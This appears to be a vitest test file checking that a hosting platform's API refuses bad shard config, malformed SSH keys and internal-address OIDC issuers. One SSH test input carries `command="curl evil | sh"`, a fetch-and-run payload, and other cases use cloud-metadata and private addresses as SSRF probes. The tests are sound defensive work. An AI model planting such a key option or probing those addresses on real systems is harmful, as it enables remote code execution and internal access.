// The rest of issue 12's input rules, on the same production-like stack: shard config holds only
// what its role reads, SSH keys must be real keys, and the OIDC issuer must be public https.
// Every refusal is a 4xx envelope and leaves the database as it was.
import { randomUUID } from "node:crypto"
import { describe, expect, it } from "vitest"
import { hardeningSuite, invalidInput, invalidRequest } from "../support/hardening-suite.js"

const { s, call, refused, snapshot, sshKeygen } = hardeningSuite("hp_inputs")

describe("shard config holds only what the shard's role reads", () => {
  const shardsPath = () => `/api/v1/clusters/${s.f.cluster}/shards`

  it("unknown keys and free-form values are refused (400), a NUL included", async () => {
    await refused(
      "POST",
      shardsPath(),
      s.stack.apiKey,
      { name: "web-motd", role: "web", config: { motd: "line\nbreak" } },
      invalidRequest("config.motd", 'is unexpected, expected: "primary_node_id" | "web_port" | "mariadb_port"'),
    )
    // PostgreSQL's jsonb cannot hold \u0000: this was a 500
    await refused(
      "POST",
      shardsPath(),
      s.stack.apiKey,
      { name: "dns-nul", role: "dns", config: { "\u0000": "\u0000" } },
      invalidRequest("config.\u0000", 'is unexpected, expected: "primary_node_id" | "web_port" | "mariadb_port"'),
    )
    const before = await snapshot()
    const big = await call("POST", shardsPath(), s.stack.apiKey, {
      name: "s3-big",
      role: "s3",
      config: { web_port: "9".repeat(100_000) },
    })
    expect({ status: big.status, code: big.json.error.code }).toEqual({ status: 400, code: "invalid_request" })
    // (compared by its start: the message quotes the 100 kB value)
    expect(big.json.error.message.slice(0, 60)).toBe('invalid request: config.web_port: Expected number, actual "9')
    expect(await snapshot()).toBe(before)
  })

  it("web, dns, email and s3 shards take no settings; lb takes web_port (422 for another role's setting)", async () => {
    for (const role of ["web", "dns", "email", "s3"]) {
      await refused(
        "POST",
        shardsPath(),
        s.stack.apiKey,
        { name: `${role}-port`, role, config: { web_port: 8000 } },
        invalidInput(`config: web_port is not a setting of a ${role} shard; it takes none (config must be {})`),
      )
      const ok = await s.admin.shards.create({
        path: { id: s.f.cluster as never },
        payload: { name: `${role}-ok`, role: role as never, config: {} },
      })
      expect(ok.config).toEqual({})
      await refused(
        "PUT",
        `/api/v1/shards/${ok.id}`,
        s.stack.apiKey,
        { config: { primary_node_id: randomUUID(), web_port: 80 } },
        invalidInput(
          `config: primary_node_id, web_port are not settings of a ${role} shard; it takes none (config must be {})`,
        ),
      )
    }
    const lb = await s.admin.shards.create({
      path: { id: s.f.cluster as never },
      payload: { name: "lb", role: "lb", config: { web_port: 8080 } },
    })
    expect(lb.config).toEqual({ web_port: 8080 })
    await refused(
      "PUT",
      `/api/v1/shards/${lb.id}`,
      s.stack.apiKey,
      { config: { primary_node_id: randomUUID() } },
      invalidInput("config: primary_node_id is not a setting of a lb shard; it takes web_port"),
    )
  })
})

describe("SSH keys must be real keys", () => {
  const keysPath = () => `/api/v1/tenants/${s.f.tenantA}/ssh-keys`

  it("a key of every supported type is stored exactly as ssh-keygen printed it, comment included", async () => {
    for (const type of [
      ["-t", "ed25519"],
      ["-t", "ecdsa", "-b", "384"],
      ["-t", "rsa", "-b", "2048"],
    ]) {
      const publicKey = sshKeygen(type, "jane@laptop")
      const key = await s.clientA.sshKeys.create({
        path: { id: s.f.tenantA as never },
        payload: { name: `key ${type[1]}`, public_key: publicKey },
      })
      expect(key.public_key).toBe(publicKey)
    }
  })

  it("a type without key bytes, options before the type, a short RSA key and a second line are refused (400)", async () => {
    const ed25519 = sshKeygen(["-t", "ed25519"], "x")
    const typeOnly = `ssh-ed25519 ${Buffer.from([0, 0, 0, 11, ...Buffer.from("ssh-ed25519")]).toString("base64")}`
    const shape =
      "must be one OpenSSH public key, `type base64 [comment]`: no options before the type; comment: up to 100 letters, digits and @._+-"
    const cases: ReadonlyArray<readonly [string, string]> = [
      [typeOnly, "the key data is not a ssh-ed25519 key: it must hold one 32-byte public key"],
      [sshKeygen(["-t", "rsa", "-b", "1024"], "x"), "the ssh-rsa key has 1024 bits; at least 2048 are required"],
      [`command="curl evil | sh" ${ed25519}`, shape],
      [`${ed25519}\n${sshKeygen(["-t", "ed25519"], "y")}`, shape],
      [sshKeygen(["-t", "dsa"], "x"), shape],
      [`${ed25519} x; return 200`, shape],
    ]
    for (const [public_key, reason] of cases) {
      await refused("POST", keysPath(), s.f.keyA, { name: "bad", public_key }, invalidRequest("public_key", reason))
    }
  })
})

describe("the OIDC issuer", () => {
  it("must be public https: not http, not an internal address in any notation (400)", async () => {
    const cases: ReadonlyArray<readonly [string, string]> = [
      ["http://idp.example.com/", "must be an https URL (http only for a loopback issuer in development)"],
      ["https://169.254.169.254/latest", "must not point at a link-local address"],
      ["https://10.0.0.1/", "must not point at a private address"],
      ["https://0xc0a80001/", "must not point at a private address"],
      ["https://[fd00::1]/", "must not point at a private address"],
      ["https://[fe80::1]/", "must not point at a link-local address"],
      ["https://idp.corp.local/", "its host must not be under the special-use domain local (RFC 6762)"],
    ]
    for (const [oidc_issuer, reason] of cases) {
      await refused(
        "PUT",
        "/api/v1/platform/config",
        s.stack.apiKey,
        { oidc_issuer },
        invalidRequest("oidc_issuer", reason),
      )
    }
  })

  it("a loopback issuer is for development only (422 here)", async () => {
    for (const oidc_issuer of ["http://127.0.0.1:5556/dex", "https://localhost/", "http://[::1]/"]) {
      await refused(
        "PUT",
        "/api/v1/platform/config",
        s.stack.apiKey,
        { oidc_issuer },
        invalidInput(
          `oidc_issuer: ${oidc_issuer} is on this machine (loopback); a loopback issuer is accepted only in development`,
        ),
      )
    }
  })

  it("a public https issuer is stored", async () => {
    const config = await s.admin.platform.updateConfig({
      payload: { oidc_issuer: "https://login.example.com/realms/acme" },
    })
    expect(config.oidc_issuer).toBe("https://login.example.com/realms/acme")
    expect((await s.admin.platform.getConfig()).oidc_issuer).toBe("https://login.example.com/realms/acme")
  })
})
